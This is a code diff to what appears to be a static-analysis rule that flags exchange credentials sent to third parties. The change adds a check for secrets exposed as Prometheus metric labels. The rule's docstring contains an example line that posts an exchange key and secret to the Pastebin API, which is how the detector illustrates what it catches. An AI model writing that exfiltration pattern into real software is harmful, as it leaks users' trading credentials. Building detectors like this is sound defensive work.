@@ -5,7 +5,7 @@ import re
 from typing import List, Optional, Tuple
 
 from ...analysis import names
-from ...analysis.dataflow import HTTP, RESPONSE, SOCKET, DataFlow, SinkSite, Source, safe_label
+from ...analysis.dataflow import HTTP, METRICS, RESPONSE, SOCKET, DataFlow, SinkSite, Source, safe_label
 from ...analysis.imports import dotted
 from ...analysis.hosts import is_exchange_host, is_known_service_host, is_local_host, is_notification_host
 from ...model import Confidence, Severity
@@ -123,6 +123,11 @@ def _response(site: SinkSite, sources: List[Source]) -> Optional[Report]:
     return Report(site.node, srcs, f"is returned in {site.what}") if srcs else None
 
 
+def _metrics(site: SinkSite, sources: List[Source]) -> Optional[Report]:
+    """A metric's label value or info (Prometheus): every scraper of /metrics reads it."""
+    return Report(site.node, sources, f"is exposed on the metrics endpoint by {site.what}")
+
+
 class SecretSentToThirdParty(Bot2Rule):
     """## What it does
     Reports HTTP requests (requests, httpx, aiohttp, urllib) that carry an exchange credential,
@@ -182,10 +187,12 @@ class SecretSentToThirdParty(Bot2Rule):
         'requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": f"{key}:{secret}"})\n',
     )
 
-    SINKS = (HTTP, SOCKET, RESPONSE)
+    SINKS = (HTTP, SOCKET, RESPONSE, METRICS)
 
     def judge(self, flow: DataFlow, site: SinkSite, sources: List[Source]) -> Optional[Report]:
         if site.kind == RESPONSE:
             return _response(site, sources)
+        if site.kind == METRICS:
+            return _metrics(site, sources)
         verdict = egress(flow, site, sources)
         return verdict[1] if verdict is not None and verdict[0] == THIRD_PARTY else None
